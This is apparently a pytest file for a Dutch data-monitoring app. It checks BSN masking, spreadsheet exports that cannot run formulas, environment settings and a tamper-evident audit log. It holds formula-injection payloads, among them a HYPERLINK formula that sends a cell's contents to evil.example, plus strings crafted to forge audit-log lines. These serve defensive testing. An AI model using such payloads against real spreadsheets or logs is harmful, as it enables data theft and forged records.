"""Issue 11, hardened edges, without the app: inert exports, the audit log on disk, SEMON_ENV, `semon serve`."""

from __future__ import annotations

import ast
import io
import json
import os
import stat
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from app import export
from cli import main as cli
from semon import auditlog, masking, settings

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1;"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def test_ingest_and_the_app_share_one_masking_function() -> None:
    from ingest import masking as ingest_masking

    assert ingest_masking.mask_bsn is masking.mask_bsn
    assert ingest_masking.mask_bsn_sql is masking.mask_bsn_sql
    frame = pl.DataFrame({"w": ["123456782", "12 345 678", "1234.56.782", "01-07-2024", "12,5", "1234567"]})
    assert frame.select(masking.mask_bsn_expr("w"))["w"].to_list() == [
        "*********",
        "*********",
        "*********",
        "01-07-2024",
        "12,5",
        "1234567",
    ]


def test_no_csv_cell_can_start_a_formula() -> None:
    frame = pl.DataFrame({"waarde": [*ATTACKS, "-12", "-3,5 %", "-1.234,5", "+12", "gewoon", None], "n": range(14)})
    cells = export.onschadelijk(frame)["waarde"].to_list()
    assert all(cell.startswith("'") for cell in cells[: len(ATTACKS)])
    assert cells[len(ATTACKS) :] == ["-12", "-3,5 %", "-1.234,5", "+12", "gewoon", None]
    text = export.csv(frame)
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(") or text.splitlines()[1].startswith("'=HYPERLINK(")


def test_no_excel_cell_becomes_a_formula_or_a_link() -> None:
    frame = pl.DataFrame({"waarde": [*ATTACKS, "https://evil.example", "mailto:a@b.example"], "n": range(10)})
    data = export.excel(lambda wb: frame.write_excel(wb, worksheet="data"))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_col=1)]
    assert [c.data_type for c in cells] == ["s"] * len(cells)  # text, never "f" (formula)
    # The same text (openpyxl reads a stored CR as its XML escape).
    assert [c.value.replace("_x000D_", "\r") for c in cells] == frame["waarde"].to_list()
    assert all(c.hyperlink is None for c in cells)
    assert [row[0].data_type for row in sheet.iter_rows(min_row=2, min_col=2, max_col=2)] == ["n"] * 10


def test_the_tables_excel_download_is_inert_too() -> None:
    from app.components import _excel

    data = _excel(pl.DataFrame({"Reden": ["=1+1", "@A1"], "Aantal": [7, 9]}), "test", [], [])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("=1+1", "s"), ("@A1", "s")]


@pytest.mark.parametrize(
    ("value", "expected"), [(None, "demo"), ("demo", "demo"), (" DEMO ", "demo"), ("Production\n", "production")]
)
def test_semon_env_is_read_without_case_or_spaces(monkeypatch: pytest.MonkeyPatch, value: str | None, expected: str):
    if value is None:
        monkeypatch.delenv("SEMON_ENV", raising=False)
    else:
        monkeypatch.setenv("SEMON_ENV", value)
    assert settings.omgeving() == expected


@pytest.mark.parametrize("value", ["prod", "productie", "", "  ", "test"])
def test_an_unknown_semon_env_is_refused(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.setenv("SEMON_ENV", value)
    with pytest.raises(settings.OnbekendeOmgeving, match="toegestaan zijn 'production', 'demo'"):
        settings.omgeving()


def test_serve_listens_on_localhost_unless_told_otherwise(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("STREAMLIT_SERVER_ADDRESS", raising=False)
    command = cli.streamlit_command(["--", "--server.port", "8502"])
    assert "--server.address=127.0.0.1" in command
    assert command[-1] == "--client.disableDataExport=true"  # last: it wins over anything passed
    assert "--server.address=127.0.0.1" not in cli.streamlit_command(["--server.address", "0.0.0.0"])
    assert "--server.address=127.0.0.1" not in cli.streamlit_command(["--server.address=10.0.0.5"])
    monkeypatch.setenv("STREAMLIT_SERVER_ADDRESS", "0.0.0.0")
    assert "--server.address=127.0.0.1" not in cli.streamlit_command([])


def test_serve_execs_streamlit_with_those_options(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    monkeypatch.delenv("SEMON_ENV", raising=False)
    monkeypatch.delenv("STREAMLIT_SERVER_ADDRESS", raising=False)
    monkeypatch.setattr(os, "chdir", lambda _: None)
    monkeypatch.setattr(os, "execvpe", lambda file, args, env: calls.append(args))
    assert cli.main(["serve"]) == cli.EXIT_OK
    assert "--server.address=127.0.0.1" in calls[0] and "--client.disableDataExport=true" in calls[0]
    # No forced full garbage collection after each script run: it held up the page's last messages (decisions.md).
    assert "--runner.postScriptGC=false" in calls[0]
    # No magic: a bare expression on a page (a choice between two calls) wrote "None" under a notice.
    assert "--runner.magicEnabled=false" in calls[0]


def test_no_page_leaves_a_value_for_magic_to_write() -> None:
    # With magic off such a line writes nothing: a page meant to show it, or it is the "None" bug again.
    from tests.helpers import REPO_ROOT

    bare = []
    for page in [REPO_ROOT / "app" / "main.py", *sorted((REPO_ROOT / "app" / "app_pages").glob("*.py"))]:
        for node in ast.walk(ast.parse(page.read_text(encoding="utf-8"))):
            docstring = isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant)
            if isinstance(node, ast.Expr) and not isinstance(node.value, ast.Call | ast.Await) and not docstring:
                bare.append(f"{page.name}:{node.lineno}: {ast.unparse(node)}")
    assert bare == []


def test_serve_refuses_an_unknown_semon_env(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture) -> None:
    monkeypatch.setenv("SEMON_ENV", "productie")
    monkeypatch.setattr(os, "execvpe", lambda *a: pytest.fail("streamlit started"))
    assert cli.main(["serve"]) == cli.EXIT_USAGE
    assert "SEMON_ENV='productie' is onbekend" in capsys.readouterr().err


def _event(n: int, **extra: object) -> dict:
    return {"tijd": f"2024-07-01T10:00:{n % 60:02d}", "gebruiker": "a@b.example", "actie": "pagina", **extra}


def test_audit_values_are_bounded_with_a_marker(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    params = {f"p{i}": "x" * 1000 for i in range(50)}
    line = auditlog.schrijf(path, _event(1, filters=params, lang="y" * 5000))
    event = json.loads(line)
    assert event["lang"] == "y" * auditlog.MAX_TEKST + auditlog.AFGEKAPT
    assert len(event["filters"]) == auditlog.MAX_ITEMS + 1  # the first 20 and how many were left out
    assert event["filters"][auditlog.AFGEKAPT] == 30
    assert len(line) < 10_000


@pytest.mark.parametrize("crafted", ['a"\n{"actie":"export"}', "a\r\nb", "a\u2028b\u2029c\x85d\x1c", '\\"}'])
def test_crafted_parameters_cannot_forge_a_line(tmp_path: Path, crafted: str) -> None:
    path = tmp_path / "audit.log"
    auditlog.schrijf(path, _event(1, filters={"gemeente": crafted, crafted: "sleutel"}))
    auditlog.schrijf(path, _event(2))
    assert len(auditlog.regels(path)) == 2
    assert path.read_bytes().count(b"\n") == 2
    assert json.loads(auditlog.regels(path)[0])["filters"]["gemeente"] == crafted
    assert auditlog.controleer(path).in_orde


def test_the_audit_log_is_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    auditlog.schrijf(path, _event(1))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)  # an older, world-readable log is tightened on the next write
    auditlog.schrijf(path, _event(2))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_the_audit_log_rotates_by_size_and_keeps_n_files_with_an_unbroken_chain(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SEMON_AUDIT_MAX_MB", str(2000 / 1024 / 1024))  # about 2 kB
    monkeypatch.setenv("SEMON_AUDIT_BEWAAR", "3")
    path = tmp_path / "audit.log"
    for n in range(100):
        auditlog.schrijf(path, _event(n, pagina="Overzicht"))
    assert sorted(p.name for p in tmp_path.glob("audit.log*") if not p.name.endswith(".lock")) == [
        "audit.log",
        "audit.log.1",
        "audit.log.2",
        "audit.log.3",
    ]
    for file in auditlog.bestanden(path):
        assert file.stat().st_size <= 2000
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
    result = auditlog.controleer(path)
    assert result.in_orde, result.fouten
    assert result.laatste_hash == auditlog.hash_van(auditlog.regels(path)[-1])
    assert json.loads(auditlog.regels(path)[-1])["tijd"].endswith(":39")  # the newest event is in audit.log


BREUK = "keten gebroken (regel gewijzigd, ingevoegd of verwijderd)"


def test_tampering_breaks_the_chain(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    for n in range(5):
        auditlog.schrijf(path, _event(n))
    assert json.loads(auditlog.regels(path)[0])["vorige"] == auditlog.BEGIN
    lines = auditlog.regels(path)
    edited = [*lines[:2], lines[2].replace("a@b.example", "x@y.example"), *lines[3:]]
    path.write_text("\n".join(edited) + "\n")
    assert auditlog.controleer(path).fouten == [f"audit.log:4: {BREUK}"]
    path.write_text("\n".join([*lines[:1], *lines[2:]]) + "\n")  # a line removed
    assert auditlog.controleer(path).fouten == [f"audit.log:2: {BREUK}"]


def test_semon_audit_check(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = tmp_path / "audit.log"
    for n in range(3):
        auditlog.schrijf(path, _event(n))
    assert cli.main(["audit-check", "--log", str(path)]) == cli.EXIT_OK
    assert "3 regels, keten in orde" in capsys.readouterr().out
    lines = auditlog.regels(path)
    path.write_text("\n".join([lines[0], lines[2]]) + "\n")
    assert cli.main(["audit-check", "--log", str(path)]) == cli.EXIT_FAILED
    assert "audit.log:2: keten gebroken" in capsys.readouterr().out
